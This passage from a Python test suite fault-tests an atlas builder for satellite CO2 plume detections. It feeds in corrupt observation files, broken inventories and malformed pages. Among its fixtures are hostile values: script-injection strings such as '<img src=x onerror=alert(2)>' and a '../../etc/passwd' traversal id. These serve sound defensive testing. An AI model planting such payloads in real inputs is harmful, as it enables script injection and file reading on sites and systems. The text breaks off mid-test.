"""Fault injection: bad observation files, bad inventory rows and bad content
pages must each be skipped with one clear line (which item, why) in
``result.skipped``, listed on the site's data page, make ``atlas build
--strict`` exit non-zero, and never stop the rest of the build: good files
still give their detections, no traceback reaches the user.

The helpers at the top (config writer, plume files, hostile city list) are
shared with test_crash_safety, test_reproducible and test_site_safety.
"""

from __future__ import annotations

import html
import json
import shutil
from pathlib import Path

import markupsafe
import numpy as np
import pandas as pd
import pytest

from builder.errors import EXIT_CONFIG, EXIT_SYSTEM, Problems
from builder.litefmt import write_lite
from tests.factories import HOSTILE_NAMES, PLUMES, ROOT, cities_frame, lite_columns, make_content, plume_city_id, plume_columns, run_cli, seed_csv_frame, write_cities, write_config, write_plume_files


# ----------------------------------------------------------------------------- shared helpers


# ----------------------------------------------------------------------------- bad inputs


def _variant(folder: Path, name: str, drop=(), **changes) -> str:
    yymmdd = name.split("_")[2]  # the day the file name says: soundings of another day are rejected
    cols = plume_columns(f"20{yymmdd[:2]}-{yymmdd[2:4]}-{yymmdd[4:]}", 21560, 40.0, 100.0, 9, n_frames=300)
    n = len(cols["sounding_id"])
    for k in drop:
        cols.pop(k)
    for k, v in changes.items():
        cols[k] = v(cols, n) if callable(v) else v
    write_lite(folder / name, cols)
    return name


def make_bad_observations(folder: Path, good: Path) -> dict[str, str]:
    """Bad files beside the good ones: name -> words the skip reason must contain (any of, '|')."""
    raw = good.read_bytes()
    bad: dict[str, str] = {}

    def put(name, data, why):
        (folder / name).write_bytes(data)
        bad[name] = why

    put("oco2_LtCO2_180810_B11210Ar_truncated.nc4", raw[: len(raw) // 2], "not a readable|corrupt")
    put("oco2_LtCO2_180811_B11210Ar_header-only.nc4", raw[:700], "not a readable|corrupt")
    b = bytearray(raw)
    mid = len(b) // 3
    b[mid:mid + 4000] = bytes(x ^ 0xFF for x in b[mid:mid + 4000])
    put("oco2_LtCO2_180812_B11210Ar_corrupt-chunk.nc4", bytes(b), "not a readable|corrupt|unreadable")
    b = bytearray(raw)
    b[-20000:-2000] = bytes(x ^ 0x5A for x in b[-20000:-2000])
    put("oco2_LtCO2_180813_B11210Ar_corrupt-tail.nc4", bytes(b), "not a readable|corrupt|unreadable")
    put("oco2_LtCO2_180814_B11210Ar_text.nc4", b"<html>404 Not Found</html>\n", "not a readable")
    put("oco2_LtCO2_180815_B11210Ar_empty.nc4", b"", "not a readable")
    put("oco2_LtCO2_180816_B11210Ar_hdf5-garbage.nc4", b"\x89HDF\r\n\x1a\n" + bytes(4000), "not a readable")
    n_lite = {
        _variant(folder, "oco2_LtCO2_180817_B11210Ar_no-meteorology.nc4",
                 drop=("windspeed_u_met", "windspeed_v_met", "psurf_apriori_o2a")): "Meteorology",
        _variant(folder, "oco2_LtCO2_180818_B11210Ar_no-sounding.nc4",
                 drop=("orbit", "footprint", "operation_mode", "land_water_indicator", "land_fraction",
                       "altitude")): "Sounding",
        _variant(folder, "oco2_LtCO2_180819_B11210Ar_no-xco2.nc4", drop=("xco2",)): "xco2",
        _variant(folder, "oco2_LtCO2_180820_B11210Ar_no-latitude.nc4", drop=("latitude",)): "latitude",
        _variant(folder, "oco2_LtCO2_180821_B11210Ar_no-wind-v.nc4", drop=("windspeed_v_met",)): "windspeed_v_met",
        _variant(folder, "oco2_LtCO2_180822_B11210Ar_fill-xco2.nc4", xco2=lambda c, n: np.full(n, np.nan)):
            "no good-quality soundings",
        _variant(folder, "oco2_LtCO2_180823_B11210Ar_absurd-xco2.nc4", xco2=lambda c, n: np.full(n, 1e30)):
            "no good-quality soundings",
        _variant(folder, "oco2_LtCO2_180824_B11210Ar_fill-coords.nc4", latitude=lambda c, n: np.full(n, np.nan),
                 longitude=lambda c, n: np.full(n, np.nan)): "no good-quality soundings",
        _variant(folder, "oco2_LtCO2_180825_B11210Ar_lat-95.nc4", latitude=lambda c, n: np.full(n, 95.0)):
            "no good-quality soundings",
        _variant(folder, "oco2_LtCO2_180826_B11210Ar_lon-400.nc4", longitude=lambda c, n: np.full(n, 400.0)):
            "no good-quality soundings",
        _variant(folder, "oco2_LtCO2_180827_B11210Ar_all-flagged.nc4",
                 xco2_quality_flag=lambda c, n: np.ones(n, dtype=int)): "no good-quality soundings",
        _variant(folder, "oco2_LtCO2_180828_B11210Ar_bad-ids-no-time.nc4",
                 sounding_id=lambda c, n: np.zeros(n, dtype=np.int64), time=lambda c, n: np.full(n, np.nan)):
            "no good-quality soundings",
    }
    bad.update(n_lite)
    write_lite(folder / "oco2_LtCO2_180829_B11210Ar_zero-soundings.nc4",
               {k: v[:0] for k, v in lite_columns().items()})
    bad["oco2_LtCO2_180829_B11210Ar_zero-soundings.nc4"] = "no good-quality soundings"
    # duplicate of a good file under another name
    dup = folder / "oco2_LtCO2_180801_B11210Ar_copy-of-first.nc4"
    shutil.copyfile(good, dup)
    bad[dup.name] = "duplicate"
    # CSV archives
    df = seed_csv_frame(lite_columns(noise_ppm=0.5, start="2018-08-06T12:00:00", orbit=21575, lat0=-5.0, lon0=70.0))
    df.to_csv(folder / "archive_comma.csv", index=False)
    bad["archive_comma.csv"] = "separator"
    df.drop(columns=["xco2", "orbit"]).to_csv(folder / "archive_missing_columns.csv", sep=";", index=False)
    bad["archive_missing_columns.csv"] = "missing columns"
    df.head(0).to_csv(folder / "archive_header_only.csv", sep=";", index=False)
    bad["archive_header_only.csv"] = "no good-quality soundings"
    (folder / "archive_binary.csv").write_bytes(bytes(range(256)) * 20)
    bad["archive_binary.csv"] = "not a readable|missing columns"
    (folder / "archive_broken.csv.bz2").write_bytes(b"BZh9" + b"garbage" * 50)
    bad["archive_broken.csv.bz2"] = "not a readable"
    return bad


#: Files whose data are partly bad but still usable: they must NOT crash, nor be skipped.
def make_partly_bad_observations(folder: Path) -> list[str]:
    names = [
        _variant(folder, "oco2_LtCO2_180830_B11210Ar_nan-wind.nc4",
                 windspeed_u_met=lambda c, n: np.full(n, np.nan), windspeed_v_met=lambda c, n: np.full(n, np.nan)),
        _variant(folder, "oco2_LtCO2_180831_B11210Ar_some-nan.nc4",
                 latitude=lambda c, n: np.where(np.arange(n) % 7 == 0, np.nan, c["latitude"]),
                 xco2=lambda c, n: np.where(np.arange(n) % 5 == 0, np.nan, c["xco2"]),
                 windspeed_u_met=lambda c, n: np.where(np.arange(n) % 3 == 0, np.nan, c["windspeed_u_met"])),
    ]
    df = seed_csv_frame(plume_columns("2018-08-07", 21590, -30.0, -60.0, 4, n_frames=300)).astype(object)
    df.loc[::5, "latitude"] = "abc"
    df.loc[::7, "xco2"] = ""
    df.loc[3, "sounding_id"] = "x"
    df.to_csv(folder / "archive_mixed.csv", sep=";", index=False)
    return names + ["archive_mixed.csv"]


def write_gppd(path: Path) -> list[tuple[str, str]]:
    """A GPPD file with hostile ids/names, a non-fossil plant and bad rows."""
    df = pd.DataFrame({
        "gppd_idnr": ["<img src=x onerror=alert(2)>", "../../etc/passwd", "WIND1", "OK1", "OK1", "NOCAP"],
        "name": ["<script>alert(2)</script>", "Traversal", "Windy", "Fine", "Fine again", "No capacity"],
        "latitude": [-45.0, -46.0, -47.0, -48.0, -49.0, "x"],
        "longitude": [170.0, 171.0, 172.0, 173.0, 174.0, 175.0],
        "primary_fuel": ["Coal", "Gas", "Wind", "Oil", "Oil", "Coal"],
        "capacity_mw": [100, 200, 300, 400, 500, ""],
        "country": ["<b>NZL</b>", "NZL", "NZL", "NZL", "NZL", "NZL"],
    })
    df.to_csv(path, index=False)
    return [(path.name, "non-fossil"), (f"{path.name}:row 6", "duplicate"), (f"{path.name}:row 7", "capacity|latitude")]


def make_bad_inventory_files(folder: Path) -> list[tuple[str, str, str]]:
    """Whole inventory files that cannot be used: (extra_inventories entry, skip item, reason words)."""
    import zipfile

    folder.mkdir(parents=True, exist_ok=True)
    (folder / "gcpt_wrong.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    (folder / "edgar_garbage.nc").write_bytes(b"garbage, not NetCDF")
    with zipfile.ZipFile(folder / "two_csvs.zip", "w") as z:
        z.writestr("a.csv", "name,lat,lon,co2_t_yr\nA,1,2,3\n")
        z.writestr("b.csv", "x\n")
    (folder / "a_folder.csv").mkdir()
    (folder / "binary.csv").write_bytes(bytes(range(256)) * 40)
    (folder / "empty.csv").write_bytes(b"")
    (folder / "gppd_few_columns.csv").write_text("gppd_idnr,name\nX,Y\n", encoding="utf-8")
    return [
        (f"gcpt:{folder / 'gcpt_wrong.csv'}", "gcpt_wrong.csv", "missing"),
        (f"edgar:{folder / 'edgar_garbage.nc'}", "edgar_garbage.nc", "not a readable"),
        (f"cities:{folder / 'two_csvs.zip'}", "two_csvs.zip", "expected exactly one"),
        (f"cities:{folder / 'a_folder.csv'}", "a_folder.csv", "not a readable|folder|directory"),
        (f"cities:{folder / 'binary.csv'}", "binary.csv", "not a readable|missing"),
        (f"cities:{folder / 'empty.csv'}", "empty.csv", "not a readable|no columns|empty"),
        (f"gppd:{folder / 'gppd_few_columns.csv'}", "gppd_few_columns.csv", "missing GPPD columns"),
        (f"gcpt:{folder / 'no_such.xlsx'}", "no_such.xlsx", "not found"),
    ]


# ----------------------------------------------------------------------------- the faulty build


@pytest.fixture(scope="module")
def faulty(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("faulty")
    obs = tmp / "oco2"
    good = write_plume_files(obs)
    partly = make_partly_bad_observations(obs)
    bad_files = make_bad_observations(obs, good[0])
    bad_rows = write_cities(tmp / "cities.csv") + write_gppd(tmp / "gppd.csv")
    (tmp / "cities_no_columns.csv").write_text("town,size\nX,3\n", encoding="utf-8")
    entries = [f"cities:{tmp / 'cities.csv'}", f"gppd:{tmp / 'gppd.csv'}", f"cities:{tmp / 'cities_no_columns.csv'}",
               f"cities:{tmp / 'does_not_exist.csv'}", f"bogus:{tmp / 'cities.csv'}", "no-colon-at-all"]
    bad_rows += [("cities_no_columns.csv", "missing city columns"), ("does_not_exist.csv", "not found"),
                 (f"bogus:{tmp / 'cities.csv'}", "kind:path"), ("no-colon-at-all", "kind:path")]
    inv_files = make_bad_inventory_files(tmp / "inv")
    entries += [e for e, _, _ in inv_files]
    bad_rows += [(item, why) for _, item, why in inv_files]
    bad_content = make_content(tmp / "content")
    cfg = write_config(tmp, extra_inventories=entries, content=tmp / "content")
    code, out, err = run_cli(["--config", str(cfg), "build", "--strict"])
    summary = json.loads((tmp / "work" / "summary.json").read_text())
    return dict(tmp=tmp, cfg=cfg, code=code, out=out, err=err, summary=summary, good=good, partly=partly,
                bad_files=bad_files, bad_rows=bad_rows, bad_content=bad_content,
                detections=pd.read_csv(tmp / "work" / "detections.csv"))


def _items(summary) -> list[dict]:
    return summary["skipped"]


def _matching(skipped: list[dict], item: str) -> list[dict]:
    return [s for s in skipped if s["item"] == item]


def _assert_clear(s: dict, tmp: Path):
    reason = s["reason"]
    assert reason and "\n" not in reason and "\r" not in reason, s
    assert len(reason) < 300, s
    assert "Traceback" not in reason, s


def test_build_survives_and_strict_fails(faulty):
    assert faulty["code"] != 0, "--strict must exit non-zero when inputs were skipped"
    assert "Traceback" not in faulty["err"] + faulty["out"]
    assert (faulty["tmp"] / "site" / "index.html").is_file(), "the build must complete and publish the site"
    n_bad = len(faulty["bad_files"]) + len(faulty["bad_rows"]) + len(faulty["bad_content"])
    print(f"bad inputs tried: {len(faulty['bad_files'])} observation files, {len(faulty['bad_rows'])} inventory "
          f"rows/entries, {len(faulty['bad_content'])} content pages, {len(faulty['partly'])} partly-bad files, "
          f"{len(HOSTILE_NAMES) + 3} hostile names; total {n_bad}")
    assert n_bad >= 45


def test_each_bad_file_is_one_clear_skip(faulty):
    skipped = _items(faulty["summary"])
    for name, why in faulty["bad_files"].items():
        hits = _matching(skipped, name)
        assert len(hits) == 1, f"{name}: expected one skip line, got {hits}"
        s = hits[0]
        assert s["stage"] == "ingest"
        assert any(w.lower() in s["reason"].lower() for w in why.split("|")), (name, s)
        _assert_clear(s, faulty["tmp"])
        # and the user sees it on stderr, one line naming the file
        lines = [ln for ln in faulty["err"].splitlines() if name in ln]
        assert len(lines) == 1, (name, lines)


def test_partly_bad_files_are_used_not_skipped(faulty):
    skipped = _items(faulty["summary"])
    for name in faulty["partly"]:
        assert not _matching(skipped, name), f"{name} has usable soundings and must not be skipped"
    tracks = pd.read_csv(faulty["tmp"] / "work" / "tracks.csv")
    assert set(faulty["partly"]) <= set(tracks["source_file"]), "partly-bad files must contribute tracks"


def test_good_files_still_give_their_detections(faulty):
    det = faulty["detections"]
    for i, path in enumerate(faulty["good"]):
        mine = det[det["source_file"] == path.name]
        assert len(mine) >= 1, f"good file {path.name} lost its detection"
        assert plume_city_id(i) in set(mine["source_id"].astype(str)), mine[["detection_id", "source_id"]]
    assert "OCO-3" in set(det["instrument"]), "the OCO-3 file beside the OCO-2 files must be processed"
    assert faulty["summary"]["n_files"] >= len(faulty["good"]) + len(faulty["partly"])


def test_each_bad_inventory_row_is_one_clear_skip(faulty):
    skipped = _items(faulty["summary"])
    for item, why in faulty["bad_rows"]:
        hits = _matching(skipped, item)
        assert len(hits) == 1, f"{item}: expected one skip line, got {hits}"
        assert hits[0]["stage"] == "inventory"
        assert any(w.lower() in hits[0]["reason"].lower() for w in why.split("|")), hits[0]
        _assert_clear(hits[0], faulty["tmp"])


def test_skip_reasons_do_not_leak_build_paths(faulty):
    """Skip lines are published on the data page: they name the file, not the build machine's folders
    (only a bad extra_inventories entry is echoed as configured)."""
    tmp = str(faulty["tmp"])
    leaks = [f"{s['item']}: {s['reason']}" for s in _items(faulty["summary"])
             if (tmp in s["reason"] or tmp in s["item"]) and not s["item"].startswith("bogus:")]
    assert not leaks, "build-machine paths in skip lines:\n" + "\n".join(leaks)


INTERNALS = ("ufunc", "Traceback", "object has no attribute", "NoneType", "KeyError", "IndexError",
             "unsupported operand", "could not be safely coerced")


def test_skip_reasons_speak_plainly(faulty):
    """A skip reason says what is wrong with the input, not which Python operation failed."""
    bad = [s for s in _items(faulty["summary"]) if any(w in s["reason"] for w in INTERNALS)]
    assert not bad, "internal error text in skip reasons:\n" + "\n".join(f"{s['item']}: {s['reason']}" for s in bad)


def test_header_only_inventory_is_not_an_error(tmp_path):
    """A cities file with a header and no rows is empty, not 'unreadable' (no internal error text)."""
    from builder.build import load_sources
    from builder.config import load_config

    (tmp_path / "cities.csv").write_text("name,lat,lon,co2_t_yr\n", encoding="utf-8")
    cfg = load_config(write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"]))
    skipped = Problems()
    load_sources(cfg, skipped)
    assert not [s for s in skipped if any(w in s.reason for w in INTERNALS)], skipped


def test_hostile_names_are_kept_as_sources(faulty):
    """Rows with HTML/JS, very long or non-ASCII names are valid sources: kept, name unchanged."""
    n_valid = len(PLUMES) + len(HOSTILE_NAMES)  # rows 2 .. n_valid + 1 of cities.csv
    skipped = [s for s in _items(faulty["summary"]) if s["item"].startswith("cities.csv:row")
               and int(s["item"].rsplit(" ", 1)[1]) <= n_valid + 1]
    assert not skipped, skipped
    data = json.loads((faulty["tmp"] / "site" / "assets" / "data" / "sources.json").read_text(encoding="utf-8"))
    names = {row[data["columns"].index("name")] for row in data["rows"]}
    missing = [n[:40] for n in HOSTILE_NAMES if n not in names]
    assert not missing, f"names changed or dropped: {missing}"


def test_data_page_lists_every_skip(faulty):
    site = faulty["tmp"] / "site"
    page = site / "data" / "index.html"
    assert page.is_file(), "the data page is missing"
    text = page.read_text(encoding="utf-8")
    for s in _items(faulty["summary"]):
        assert str(markupsafe.escape(s["item"])) in text or html.escape(s["item"]) in text, \
            f"data page does not list skipped {s['item']!r}"


def test_malformed_content_pages_are_skipped_and_reported(faulty):
    """A bad Markdown page is left out of the site and reported like any other bad input
    (result.skipped, the data page, --strict)."""
    site = faulty["tmp"] / "site"
    skipped = _items(faulty["summary"])
    for name, why in faulty["bad_content"]:
        stem = name[:-3]
        assert not (site / stem / "index.html").exists(), f"{name} has malformed front matter but was published"
        hits = [s for s in skipped if name in s["item"]]
        assert len(hits) == 1, f"{name}: not reported in result.skipped (summary.json): {hits}"
        assert any(w.lower() in hits[0]["reason"].lower() for w in why.split("|")), hits[0]


def test_raw_html_in_content_is_not_live(faulty):
    """Markdown pages are repository content, but raw HTML in them must still not run:
    no inline script, no event handler attribute, no javascript: link."""
    page = faulty["tmp"] / "site" / "rawhtml" / "index.html"
    assert page.is_file()
    text = page.read_text(encoding="utf-8")
    assert "<script>alert('content')</script>" not in text
    # inert text is fine (Markdown escapes an unquoted <img ...>); no live tag or handler
    body = text[text.index("<article"):text.index("</article>")]
    assert not _live(body), _live(body)
    assert 'href="javascript:' not in text


def test_strict_exits_zero_when_nothing_skipped(tmp_path):
    obs = tmp_path / "oco2"
    write_plume_files(obs, PLUMES[:1])
    write_cities(tmp_path / "cities.csv", with_bad=False)
    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
    code, out, err = run_cli(["--config", str(cfg), "build", "--strict"])
    assert "Traceback" not in err
    assert code == 0, err
    assert "0 inputs skipped" in out
    assert json.loads((tmp_path / "work" / "summary.json").read_text())["skipped"] == []


def test_detect_command_strict_and_no_traceback(tmp_path):
    obs = tmp_path / "in"
    write_plume_files(obs, PLUMES[:1])
    (obs / "oco2_LtCO2_180814_B11210Ar_text.nc4").write_bytes(b"not netcdf")
    cfg = write_config(tmp_path)
    code, out, err = run_cli(["--config", str(cfg), "detect", "--oco2", str(obs), "--out", str(tmp_path / "o"),
                              "--strict"])
    assert code != 0 and "Traceback" not in err
    assert "oco2_LtCO2_180814_B11210Ar_text.nc4" in err
    det = pd.read_csv(tmp_path / "o" / "detections.csv")
    assert len(det) >= 1


@pytest.mark.parametrize("argv,msg", [
    (["build", "--oco2", "/nonexistent/folder/x"], None),
    (["validate", "--truth", "/nonexistent/t", "--detections", "/nonexistent/d"], None),
])
def test_missing_folders_give_one_line_not_traceback(tmp_path, argv, msg):
    cfg = write_config(tmp_path)
    code, out, err = run_cli(["--config", str(cfg)] + argv)
    assert "Traceback" not in err + out


def test_bad_config_is_one_line(tmp_path):
    (tmp_path / "atlas.toml").write_text("[paths]\nsite = 3\nnot valid toml [[[\n", encoding="utf-8")
    code, out, err = run_cli(["--config", str(tmp_path / "atlas.toml"), "build"])
    assert code == EXIT_CONFIG and "Traceback" not in err and err.strip().count("\n") == 0
    (tmp_path / "atlas.toml").write_text("[nosuchsection]\nx = 1\n", encoding="utf-8")
    code, out, err = run_cli(["--config", str(tmp_path / "atlas.toml"), "build"])
    assert code == EXIT_CONFIG and "nosuchsection" in err


# ----------------------------------------------------------------------------- readable but absurd values


@pytest.fixture(scope="module")
def plume_world(tmp_path_factory):
    from builder.build import load_sources
    from builder.config import load_config

    tmp = tmp_path_factory.mktemp("absurd")
    write_cities(tmp / "cities.csv", with_bad=False)
    cfg = load_config(write_config(tmp, extra_inventories=[f"cities:{tmp / 'cities.csv'}"]))
    sources, profiles = load_sources(cfg, Problems())
    return tmp, cfg, sources, profiles


ABSURD = {
    "wind-fill-9999": dict(windspeed_u_met=-9999.0, windspeed_v_met=-9999.0),
    "wind-1e6": dict(windspeed_u_met=1e6),
    "psurf-negative": dict(psurf=-5.0, psurf_apriori_o2a=-5.0),
    "psurf-fill-9999": dict(psurf=-9999.0, psurf_apriori_o2a=-9999.0),
    "tcwv-fill-9999": dict(tcwv=-9999.0),
}


@pytest.mark.parametrize("name", sorted(ABSURD))
def test_implausible_meteorology_never_becomes_an_emission(plume_world, name):
    """Fill values of another convention (no _FillValue attribute) or impossible values in wind,
    pressure or water vapour: the plume is still detected, but no absurd emission is published."""
    from builder.pipeline import process_file

    tmp, cfg, sources, profiles = plume_world
    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
    cols = plume_columns(day, orbit, lat0, lon0, seed)
    n = len(cols["sounding_id"])
    for k, v in ABSURD[name].items():
        cols[k] = np.full(n, v)
    path = write_lite(tmp / f"oco2_LtCO2_180801_B11210Ar_{name}.nc4", cols)
    res = process_file(path, cfg, sources, profiles.emission_kg_s)
    assert len(res.detections) >= 1
    for col in ("emission_kg_s", "emission_unc_kg_s", "gp_emission_kg_s", "line_density_kg_m"):
        if col in res.detections:
            v = pd.to_numeric(res.detections[col], errors="coerce").to_numpy(float)
            bad = v[np.isfinite(v) & ((v < 0) | (v > 1e5 if col != "line_density_kg_m" else v > 1e6))]
            assert not len(bad), f"{name}: {col} = {bad} published from impossible input values"


def test_longitudes_0_to_360_are_understood(plume_world):
    from builder.pipeline import process_file

    tmp, cfg, sources, profiles = plume_world
    day, inst, orbit, lat0, lon0, seed = PLUMES[2]
    cols = plume_columns(day, orbit, lat0, lon0, seed)
    cols["longitude"] = np.mod(cols["longitude"], 360.0)
    path = write_lite(tmp / "oco3_LtCO2_180803_B11210Ar_lon360.nc4", cols, instrument="OCO-3")
    det = process_file(path, cfg, sources, profiles.emission_kg_s).detections
    assert len(det) >= 1
    assert det["longitude"].between(-180, 180).all(), det["longitude"]
    assert plume_city_id(2) in set(det["source_id"].astype(str))


def test_internal_error_is_one_line_not_a_traceback(tmp_path, monkeypatch):
    """A bug deep in the pipeline (here: the renderer failing) must still reach the user as one
    clear line and a non-zero exit, with the previous site kept (the traceback only with -v)."""
    obs = tmp_path / "oco2"
    write_plume_files(obs, PLUMES[:1])
    write_cities(tmp_path / "cities.csv", with_bad=False)
    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
    code, out, err = run_cli(["--config", str(cfg), "build"])
    assert code == 0, err
    before = (tmp_path / "site" / "index.html").read_bytes()

    def broken(*a, **k):
        raise ZeroDivisionError("float division by zero")

    monkeypatch.setattr("builder.render.render_site", broken)
    try:  # --no-cache: the site is up to date, so only a forced build reaches the renderer
        code, out, err = run_cli(["--config", str(cfg), "build", "--no-cache"])
    except ZeroDivisionError:
        pytest.fail("an internal error escaped builder.cli.main as a traceback")
    assert code != 0
    assert "Traceback" not in err and "division by zero" in err
    assert (tmp_path / "site" / "index.html").read_bytes() == before


def test_bad_files_on_dask_workers_are_skipped_too(tmp_path):
    """Same contract when the per-file work runs on a Dask LocalCluster (worker processes)."""
    obs = tmp_path / "oco2"
    good = write_plume_files(obs, PLUMES[:2])
    (obs / "oco2_LtCO2_180814_B11210Ar_text.nc4").write_bytes(b"<html>not netcdf</html>")
    raw = bytearray(good[0].read_bytes())
    m = len(raw) // 3
    raw[m:m + 4000] = bytes(x ^ 0xFF for x in raw[m:m + 4000])
    (obs / "oco2_LtCO2_180812_B11210Ar_corrupt.nc4").write_bytes(bytes(raw))
    write_cities(tmp_path / "cities.csv", with_bad=False)
    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"],
                       compute={"scheduler": "local", "workers": 2})
    code, out, err = run_cli(["--config", str(cfg), "build", "--strict"])
    assert code != 0 and "Traceback" not in err
    skipped = json.loads((tmp_path / "work" / "summary.json").read_text())["skipped"]
    assert sorted(s["item"] for s in skipped) == ["oco2_LtCO2_180812_B11210Ar_corrupt.nc4",
                                                 "oco2_LtCO2_180814_B11210Ar_text.nc4"]
    det = pd.read_csv(tmp_path / "work" / "detections.csv")
    assert {plume_city_id(0), plume_city_id(1)} <= set(det["source_id"].astype(str))


@pytest.mark.parametrize("truth", [b"not,a,truth\n1,2,3\n", b"\x00\x01garbage", b""])
def test_bad_truth_table_is_one_skip_and_the_site_still_builds(tmp_path, truth):
    obs = tmp_path / "oco2"
    write_plume_files(obs, PLUMES[:1])
    (obs / "truth.csv").write_bytes(truth)
    cfg = write_config(tmp_path)
    code, out, err = run_cli(["--config", str(cfg), "build", "--strict"])
    assert code != 0 and "Traceback" not in err
    assert (tmp_path / "site" / "index.html").is_file()
    skipped = json.loads((tmp_path / "work" / "summary.json").read_text())["skipped"]
    assert [s["stage"] for s in skipped] == ["validate"], skipped
    assert str(tmp_path) not in json.dumps(skipped) and "\n" not in skipped[0]["reason"]


# ----------------------------------------------------------------------------- issue 13: one bad file, one line


def _lite_attr(path: Path, group: str, name: str, **attrs) -> Path:
    import netCDF4

    with netCDF4.Dataset(path, "a") as ds:
        v = (ds.groups[group] if group else ds).variables[name]
        for k, val in attrs.items():
            v.setncattr(k, val)
    return path


def text_scale_factor_file(folder: Path, day: str = "180902") -> Path:
    """``xco2`` with scale_factor = "1.0" (text): xarray fails with a UFuncTypeError when decoding."""
    name = _variant(folder, f"oco2_LtCO2_{day}_B11210Ar_text-scale.nc4")
    return _lite_attr(folder / name, "", "xco2", scale_factor="1.0")


def text_quality_flag_file(folder: Path, day: str = "180903") -> Path:
    """``xco2_quality_flag`` stored as text ("0"), not as numbers."""
    import netCDF4

    name = _variant(folder, f"oco2_LtCO2_{day}_B11210Ar_text-qflag.nc4", drop=("xco2_quality_flag",))
    with netCDF4.Dataset(folder / name, "a") as ds:
        v = ds.createVariable("xco2_quality_flag", str, ("sounding_id",))
        n = len(ds.dimensions["sounding_id"])
        v[:] = np.array(["0"] * n, dtype=object)
    return folder / name


def huge_declared_file(folder: Path, n: int = 400_000_000, day: str = "180904") -> Path:
    """A few kB on disk that declares ``n`` soundings (chunked variables, nothing written)."""
    import netCDF4

    path = folder / f"oco2_LtCO2_{day}_B11210Ar_huge.nc4"
    with netCDF4.Dataset(path, "w") as ds:
        ds.createDimension("sounding_id", n)
        for name, dt in (("sounding_id", "i8"), ("latitude", "f4"), ("longitude", "f4"), ("xco2", "f4"),
                         ("xco2_uncertainty", "f4"), ("xco2_quality_flag", "i1")):
            ds.createVariable(name, dt, ("sounding_id",), zlib=True, chunksizes=(1 << 16,))
        for g, names in (("Sounding", ("orbit",)), ("Meteorology", ("windspeed_u_met", "windspeed_v_met")),
                         ("Retrieval", ())):
            grp = ds.createGroup(g)
            for name in names:
                grp.createVariable(name, "f4", ("sounding_id",), zlib=True, chunksizes=(1 << 16,))
    return path


def wrong_day_file(folder: Path, day: str = "180905") -> Path:
    """A file named for 2018-09-05 whose soundings are stamped 1970 and 2100."""
    name = _variant(folder, f"oco2_LtCO2_{day}_B11210Ar_wrong-day.nc4",
                    time=lambda c, n: np.where(np.arange(n) % 2 == 0, 1000.0, 4.1e9))
    return folder / name


ISSUE13_BAD = {  # maker -> words the skip reason must contain
    text_scale_factor_file: "scale_factor",
    text_quality_flag_file: "xco2_quality_flag is stored as text",
    huge_declared_file: "max_soundings_per_file",
    wrong_day_file: "outside the file's date",
}


@pytest.fixture(scope="module")
def plume_env(tmp_path_factory):
    from builder.build import load_sources
    from builder.config import load_config

    tmp = tmp_path_factory.mktemp("issue13")
    write_cities(tmp / "cities.csv", with_bad=False)
    cfg = load_config(write_config(tmp, extra_inventories=[f"cities:{tmp / 'cities.csv'}"]))
    sources, profiles = load_sources(cfg, Problems())
    return tmp, cfg, sources, profiles


@pytest.mark.parametrize("maker", list(ISSUE13_BAD), ids=lambda f: f.__name__)
def test_each_new_bad_kind_is_one_plain_skip_line(plume_env, maker, tmp_path):
    from builder.pipeline import process_file

    _, cfg, sources, profiles = plume_env
    path = maker(tmp_path)
    res = process_file(path, cfg, sources, profiles.emission_kg_s)
    assert [e.item for e in res.errors] == [path.name], res.errors
    reason = res.errors[0].reason
    assert ISSUE13_BAD[maker] in reason, reason
    assert not any(w in reason for w in INTERNALS) and "\n" not in reason, reason
    assert len(res.detections) == 0


def test_huge_declared_file_is_refused_before_reading(tmp_path):
    """400 M declared soundings in a tiny file: refused from the header (reading would need GBs)."""
    import resource

    from builder.config import Ingest
    from builder.soundings import InputError, read_lite

    path = huge_declared_file(tmp_path)
    assert path.stat().st_size < 100_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(InputError, match="400,000,000 soundings"):
        read_lite(path, Ingest())
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # kB: nothing big allocated


def test_max_soundings_per_file_is_configurable(tmp_path):
    from builder.config import Ingest, load_config
    from builder.soundings import InputError, read_lite, read_seed_csv

    assert load_config(None).ingest.max_soundings_per_file == 5_000_000  # the documented default
    good = write_plume_files(tmp_path, PLUMES[:1])[0]
    assert read_lite(good, Ingest())  # 7,200 soundings: fine by default
    with pytest.raises(InputError, match="max_soundings_per_file = 1,000"):
        read_lite(good, Ingest(max_soundings_per_file=1000))
    csv = tmp_path / "archive.csv"
    seed_csv_frame(lite_columns(n_frames=200)).to_csv(csv, sep=";", index=False)
    with pytest.raises(InputError, match="max_soundings_per_file"):
        read_seed_csv(csv, Ingest(max_soundings_per_file=1000))


def test_any_failure_in_one_file_is_a_skip_and_the_rest_goes_on(plume_env, tmp_path, monkeypatch):
    """A bug hit by one file's data (here: the detector raising) is one skip line naming that file;
    the other files still give their detections."""
    import builder.detect as det_mod
    from builder.pipeline import run_core

    _, cfg, sources, profiles = plume_env
    files = write_plume_files(tmp_path, PLUMES[:2])
    real = det_mod.detect_track

    def flaky(track, c):
        if track.orbit == PLUMES[1][2]:
            raise TypeError("ufunc 'add' did not contain a loop with signature matching types")
        return real(track, c)

    monkeypatch.setattr(det_mod, "detect_track", flaky)
    skipped = Problems()
    core = run_core(cfg, files, sources, profiles.emission_kg_s, skipped, use_cache=False)
    assert [s.item for s in skipped] == [files[1].name], skipped
    assert "could not be processed" in skipped[0].reason
    assert plume_city_id(0) in set(core.result.detections["source_id"].astype(str))


def test_month_with_one_file_of_each_new_bad_kind_publishes_every_good_day(tmp_path):
    obs = tmp_path / "oco2"
    good = write_plume_files(obs)
    bad = [maker(obs) for maker in ISSUE13_BAD]
    write_cities(tmp_path / "cities.csv", with_bad=False)
    cfg = write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
    code, out, err = run_cli(["--config", str(cfg), "build", "--strict"])
    assert code == 3 and "Traceback" not in err and "internal error" not in err, err
    for b in bad:
